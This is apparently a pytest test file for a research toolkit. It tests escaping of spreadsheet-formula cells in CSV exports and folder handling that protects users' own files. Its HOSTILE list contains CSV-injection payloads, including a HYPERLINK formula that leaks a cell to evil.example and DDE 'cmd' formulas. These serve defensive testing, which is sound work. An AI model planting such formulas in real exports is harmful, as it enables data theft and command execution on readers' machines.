"""Safe CSV (OWASP CSV-injection rule) and safe output folders (report and sample).

The CSV rule is OWASP's "CSV Injection" page: cells beginning with =, +, -, @, tab or carriage
return are prefixed with a single quote; the tests read every CSV back with pandas and csv.
"""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest

from parcours_research._outputs import MARKERS, staged_output
from parcours_research._safe_csv import neutralise, safe_frame, write_csv
from parcours_research.errors import StudyError

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 ab",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_neutralised(cell, tmp_path):
    df = pd.DataFrame({"comment": [cell], "n": [-3], "x": [-1.25]})
    path = write_csv(df, tmp_path / "t.csv")
    back = pd.read_csv(path, keep_default_na=False)
    assert back.loc[0, "comment"] == "'" + cell and len(back) == 1
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][0].startswith("'") and rows[1][0][1:] == cell
    # numbers untouched: a negative number is still a number
    assert back.loc[0, "n"] == -3 and back.loc[0, "x"] == -1.25
    assert pd.api.types.is_numeric_dtype(back["n"]) and pd.api.types.is_numeric_dtype(back["x"])


@pytest.mark.parametrize(
    "cell", ["-3.5", "+33", "-12", "1e-3", "ordinary text", "", "a=b", "Paul-Henri"]
)
def test_ordinary_cells_are_kept(cell):
    assert neutralise(cell) == cell


def test_safe_frame_keeps_types_and_neutralises_headers_and_categories():
    df = pd.DataFrame(
        {
            "=evil": ["=1"],
            "cat": pd.Categorical(["@x"]),
            "flag": [True],
            "when": pd.to_datetime(["2026-01-01"]),
            "s": pd.array(["-a"], dtype="string"),
        }
    )
    out = safe_frame(df)
    assert list(out.columns)[0] == "'=evil"
    assert out.iloc[0, 0] == "'=1" and out.loc[0, "cat"] == "'@x" and out.loc[0, "s"] == "'-a"
    assert out["flag"].dtype == bool and out["when"].dtype == df["when"].dtype
    assert df.iloc[0, 0] == "=1"  # the input is not modified


def test_report_tables_cli_exports_and_workshop_export_use_the_writer(tmp_path):
    """Every writer of the kit goes through write_csv (no bare to_csv left)."""
    import re
    from pathlib import Path

    import parcours_research

    root = Path(parcours_research.__file__).parent
    bare = []
    for py in root.rglob("*.py"):
        if py.name in ("_safe_csv.py", "sample.py"):  # sample.py writes synthetic inputs
            continue
        for i, line in enumerate(py.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(", line) and "safe_frame" not in line:
                bare.append(f"{py.relative_to(root)}:{i}")
    assert bare == []


# ------------------------------------------------------------------------------ folders
def _build(tmp, files: dict[str, str]):
    for rel, text in files.items():
        (tmp / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp / rel).write_text(text, encoding="utf-8")


def test_new_folder_gets_files_and_marker(tmp_path):
    out = tmp_path / "rep"
    with staged_output(out, "report") as tmp:
        _build(tmp, {"report.html": "a", "tables/x.csv": "1"})
    marker = json.loads((out / MARKERS["report"]).read_text())
    assert marker["files"] == ["report.html", "tables/x.csv"]
    assert not [
        p for p in tmp_path.iterdir() if p.name.startswith(".rep.parcours-")
    ]  # no temp left


def test_foreign_folder_refused_then_overwrite_keeps_other_files(tmp_path):
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.docx").write_text("the user's", encoding="utf-8")
    (out / "report.html").write_text("the user's own report", encoding="utf-8")
    with pytest.raises(StudyError, match="not written by parcours"):
        with staged_output(out, "report", what="report") as tmp:
            _build(tmp, {"report.html": "new"})
    assert (out / "report.html").read_text() == "the user's own report"
    with staged_output(out, "report", overwrite=True) as tmp:
        _build(tmp, {"report.html": "new"})
    assert (out / "notes.docx").read_text() == "the user's"
    assert (out / "report.html").read_text() == "new"


def test_rerun_removes_only_stale_files_it_wrote(tmp_path):
    out = tmp_path / "rep"
    with staged_output(out, "report") as tmp:
        _build(tmp, {"report.html": "1", "tables/a.csv": "a", "tables/b.csv": "b"})
    (out / "tables" / "mine.csv").write_text("user", encoding="utf-8")
    with staged_output(out, "report") as tmp:  # an earlier report: no --overwrite needed
        _build(tmp, {"report.html": "2", "tables/a.csv": "a2"})
    assert sorted(p.name for p in (out / "tables").iterdir()) == ["a.csv", "mine.csv"]
    assert (out / "report.html").read_text() == "2"


def test_failed_run_leaves_previous_output_whole(tmp_path):
    out = tmp_path / "rep"
    with staged_output(out, "report") as tmp:
        _build(tmp, {"report.html": "good", "tables/a.csv": "a"})
    before = {p.name: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    with pytest.raises(RuntimeError):
        with staged_output(out, "report") as tmp:
            _build(tmp, {"report.html": "half"})
            raise RuntimeError("section failed")
    assert {p.name: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".rep.parcours-")]


def test_same_named_user_file_in_an_earlier_report_is_not_replaced_silently(tmp_path):
    out = tmp_path / "rep"
    with staged_output(out, "report") as tmp:
        _build(tmp, {"report.html": "1"})
    (out / "tables").mkdir()
    (out / "tables" / "funnel.csv").write_text("the user's", encoding="utf-8")
    with pytest.raises(StudyError, match="did not write"):
        with staged_output(out, "report") as tmp:
            _build(tmp, {"report.html": "2", "tables/funnel.csv": "kit"})
    assert (out / "tables" / "funnel.csv").read_text() == "the user's"


def test_cli_report_refuses_a_foreign_folder(tmp_path, capsys):
    from parcours_research.cli import main

    out = tmp_path / "docs"
    out.mkdir()
    (out / "thesis.tex").write_text("x", encoding="utf-8")
    assert main(["report", str(tmp_path / "no-study"), "-o", str(out), "--quiet"]) == 1
    assert (out / "thesis.tex").exists() and len(list(out.iterdir())) == 1


# ------------------------------------------------------------------------------ sample
SMALL = dict(n_customers=60, n_prospects=20, n_respondents=40, n_participants=4, days=10)


def test_sample_overwrite_refuses_a_folder_it_did_not_write(tmp_path):
    from parcours_research.sample import make_sample

    out = tmp_path / "s"
    out.mkdir()
    (out / "precious.xlsx").write_text("x", encoding="utf-8")
    with pytest.raises(StudyError, match="not a sample study written by parcours"):
        make_sample(out, overwrite=True, **SMALL)
    assert (out / "precious.xlsx").exists()


def test_sample_overwrite_replaces_its_own_files_only(tmp_path):
    from parcours_research.sample import make_sample

    out = make_sample(tmp_path / "s", seed=1, **SMALL)
    marker = json.loads((out / MARKERS["sample"]).read_text())
    assert "study.yml" in marker["files"] and "truth.json" in marker["files"]
    (out / "my_notes.md").write_text("keep me", encoding="utf-8")
    make_sample(out, seed=2, overwrite=True, **SMALL)
    assert (out / "my_notes.md").read_text() == "keep me"
    assert json.loads((out / "truth.json").read_text())["seed"] == 2
    assert "my_notes.md" not in json.loads((out / MARKERS["sample"]).read_text())["files"]
